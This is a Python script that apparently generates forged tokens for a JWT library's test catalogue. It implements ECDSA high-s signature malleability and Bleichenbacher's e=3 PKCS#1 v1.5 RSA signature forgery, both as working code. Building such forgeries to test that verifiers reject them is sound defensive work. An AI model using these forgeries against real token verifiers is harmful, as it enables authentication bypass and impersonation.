#!/usr/bin/env python3
"""Forgeries for the attack catalogue that need big-number arithmetic, done with Python's
integers (the Rust tests use no hand-written bignum code). Standard library only.

  forge.py high-s TOKEN ALG          the token with its ECDSA s replaced by n - s
  forge.py e3 N_B64URL SIGNING_INPUT a Bleichenbacher (2006) e = 3 PKCS#1 v1.5 forgery for
                                     SHA-256 over SIGNING_INPUT, for a modulus N (base64url):
                                     00 01 FF 00 DigestInfo hash, then garbage, cube-rooted
"""
import base64, hashlib, sys

ORDERS = {
    "ES256": 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
    "ES384": 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
    "ES512": 0x01FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFA51868783BF2F966B7FCC0148F709A5D03BB5C9B8899C47AEBB6FB71E91386409,
}
SHA256_PREFIX = bytes.fromhex("3031300d060960864801650304020105000420")


def b64d(s):
    return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))


def b64e(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def icbrt_ceil(x):
    lo, hi = 0, 1 << ((x.bit_length() + 2) // 3 + 1)
    while lo < hi:
        mid = (lo + hi) // 2
        if mid ** 3 < x:
            lo = mid + 1
        else:
            hi = mid
    return lo


def high_s(token, alg):
    head, payload, sig = token.split(".")
    raw = b64d(sig)
    half = len(raw) // 2
    r, s = raw[:half], int.from_bytes(raw[half:], "big")
    n = ORDERS[alg]
    # Either way round: a low s becomes high, a high one low; both verify as plain ECDSA.
    return f"{head}.{payload}.{b64e(r + (n - s).to_bytes(half, 'big'))}"


def e3(n_b64, signing_input):
    n = int.from_bytes(b64d(n_b64), "big")
    k = (n.bit_length() + 7) // 8
    block = b"\x00\x01\xff\x00" + SHA256_PREFIX + hashlib.sha256(signing_input.encode()).digest()
    garbage_bits = 8 * (k - len(block))
    s = icbrt_ceil(int.from_bytes(block, "big") << garbage_bits)
    assert (s ** 3) >> garbage_bits == int.from_bytes(block, "big"), "the forgery's top bytes"
    assert s ** 3 < n
    return b64e(s.to_bytes(k, "big"))


if __name__ == "__main__":
    if sys.argv[1] == "high-s":
        print(high_s(sys.argv[2], sys.argv[3]))
    elif sys.argv[1] == "e3":
        print(e3(sys.argv[2], sys.argv[3]))
    else:
        sys.exit("usage: forge.py high-s TOKEN ALG | e3 N SIGNING_INPUT")
